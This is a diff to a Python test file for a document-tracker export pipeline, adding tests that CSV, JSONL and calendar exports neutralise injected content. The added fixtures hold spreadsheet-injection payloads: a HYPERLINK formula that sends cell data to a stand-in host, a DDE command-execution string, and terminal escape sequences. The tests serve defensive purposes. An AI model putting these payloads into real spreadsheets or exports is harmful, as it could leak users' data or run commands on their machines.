@@ -1,6 +1,7 @@
 """Tracker exports: xlsx, jsonl, ics and csv carry the clerk's corrections and read back exactly."""
 from __future__ import annotations
 
+import csv
 import io
 import json
 import os
@@ -15,9 +16,9 @@ import pandas as pd
 import pytest
 
 from pipeline.errors import InputError
-from pipeline.export import rebuild_outputs
-from pipeline.formats import EXPORT_TASK_COLUMNS, all_tasks, deadlines_ics, task_record, tasks_jsonl, tasks_xlsx
-from pipeline.review.documents import OutputFolder
+from pipeline.export import rebuild
+from pipeline.export.formats import EXPORT_TASK_COLUMNS, all_tasks, deadlines_ics, task_record, tasks_jsonl, tasks_xlsx
+from pipeline.export.folder import OutputFolder
 
 ROOT = Path(__file__).resolve().parents[1]
 NAME = "kh-267-ocr"
@@ -95,8 +96,8 @@ def test_jsonl_has_lists_and_the_schema_version(corrected_dir):
     assert isinstance(record["lead_units"], list) and record["lead_units"]
 
 
-def test_rebuild_outputs_writes_every_export_and_the_report(corrected_dir):
-    assert rebuild_outputs(corrected_dir) == (1, 14)
+def test_rebuild_writes_every_export_and_the_report(corrected_dir):
+    assert rebuild(corrected_dir) == (1, 14)
     names = {p.name for p in corrected_dir.iterdir()}
     assert {"tasks.csv", "documents.csv", "tasks.xlsx", "tasks.jsonl", "deadlines.ics", "index.html",
             f"{NAME}.html"} <= names
@@ -110,6 +111,7 @@ def cli(*args: str) -> subprocess.CompletedProcess:
                           env={**os.environ, "PYTHONPATH": str(ROOT)}, timeout=120)
 
 
+@pytest.mark.slow
 def test_export_command(corrected_dir, tmp_path_factory):
     result = cli("export", "--data", str(corrected_dir), "--format", "ics")
     assert result.returncode == 0, result.stderr.decode()
@@ -121,3 +123,54 @@ def test_export_command(corrected_dir, tmp_path_factory):
     empty = tmp_path_factory.mktemp("empty")
     result = cli("export", "--data", str(empty), "--format", "csv")
     assert result.returncode == InputError.exit_code and b"no processed documents" in result.stderr
+
+
+HOSTILE_TEXT = '=HYPERLINK("http://example.invalid/?d="&A2,"Xem")'
+HOSTILE_UNITS = ["+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\tTab", "\rReturn", "Sở Tài chính"]
+
+
+def test_csv_exports_neutralise_formulas(corrected_dir):
+    store = OutputFolder(corrected_dir).corrections
+    task = OutputFolder(corrected_dir).document(NAME).task("III.1.b")
+    store.save_task_field(NAME, "III.1.b", "text", HOSTILE_TEXT, task.machine["text"])
+    store.save_task_field(NAME, "III.1.b", "lead_units", HOSTILE_UNITS, task.machine["lead_units"])
+    result = cli("export", "--data", str(corrected_dir), "--format", "csv")
+    assert result.returncode == 0, result.stderr.decode()
+    rows = list(csv.DictReader(io.StringIO((corrected_dir / "tasks.csv").read_bytes().decode("utf-8-sig"))))
+    assert len(rows) == 14
+    formula_starts = ("=", "+", "-", "@", "\t", "\r")
+    assert not [cell for row in rows for cell in row.values() if cell.startswith(formula_starts)]
+    row = next(row for row in rows if row["task_id"] == "III.1.b")
+    assert row["text"] == "'" + HOSTILE_TEXT
+    assert row["lead_units"] == "'" + "; ".join(HOSTILE_UNITS)
+    # documents.csv, written by `run` and the rebuild, goes through the same writer.
+    rebuild(corrected_dir)
+    for name in ("tasks.csv", "documents.csv"):
+        table = list(csv.reader(io.StringIO((corrected_dir / name).read_bytes().decode("utf-8-sig"))))
+        assert not [cell for row in table for cell in row if cell.startswith(formula_starts)], name
+
+
+def test_jsonl_escapes_unicode_line_breaks(corrected_dir):
+    text = "Một\u2028hai\u2029ba\u0085bốn"
+    task = OutputFolder(corrected_dir).document(NAME).task("III.2.a")
+    OutputFolder(corrected_dir).corrections.save_task_field(NAME, "III.2.a", "text", text, task.machine["text"])
+    result = cli("export", "--data", str(corrected_dir), "--format", "jsonl")
+    assert result.returncode == 0, result.stderr.decode()
+    data = (corrected_dir / "tasks.jsonl").read_text(encoding="utf-8")
+    assert not {"\u2028", "\u2029", "\u0085"} & set(data)
+    records = [json.loads(line) for line in data.splitlines()]  # str.splitlines splits at all three
+    assert len(records) == 14
+    assert next(r for r in records if r["task_id"] == "III.2.a")["text"] == text
+
+
+def test_ics_drops_control_characters(corrected_dir):
+    task = OutputFolder(corrected_dir).document(NAME).task("III.1.a")
+    OutputFolder(corrected_dir).corrections.save_task_field(
+        NAME, "III.1.a", "text", "Khảo\x07 sát\x1b[2J\x00 nhu cầu\x7f\x9b", task.machine["text"])
+    result = cli("export", "--data", str(corrected_dir), "--format", "ics")
+    assert result.returncode == 0, result.stderr.decode()
+    data = (corrected_dir / "deadlines.ics").read_bytes().decode("utf-8")
+    assert not [c for c in data if (ord(c) < 32 and c not in "\r\n") or 0x7f <= ord(c) <= 0x9f]
+    calendar = icalendar.Calendar.from_ical(data)
+    summary = next(str(t["summary"]) for t in calendar.walk("VTODO") if "[III.1.a]" in str(t["summary"]))
+    assert summary == "[III.1.a] Khảo sát[2J nhu cầu"
